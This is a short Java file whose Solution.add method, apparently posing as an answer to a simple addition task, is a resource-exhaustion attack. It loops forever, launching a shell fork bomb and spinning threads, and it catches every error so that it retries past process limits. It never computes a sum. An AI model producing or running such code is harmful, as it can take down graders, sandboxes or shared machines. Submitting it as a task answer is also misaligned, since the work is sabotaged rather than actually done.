// Fork bomb: a JVM cannot fork, so it starts shell fork bombs and threads until it may not.
class Solution {
    public int add(int a, int b) {
        for (;;) {
            try {
                new ProcessBuilder("/bin/sh", "-c", "b() { b | b & }; b").start();
                new Thread(() -> { for (;;) { } }).start();
            } catch (Throwable e) {
                // the pids limit: try again
            }
        }
    }
}
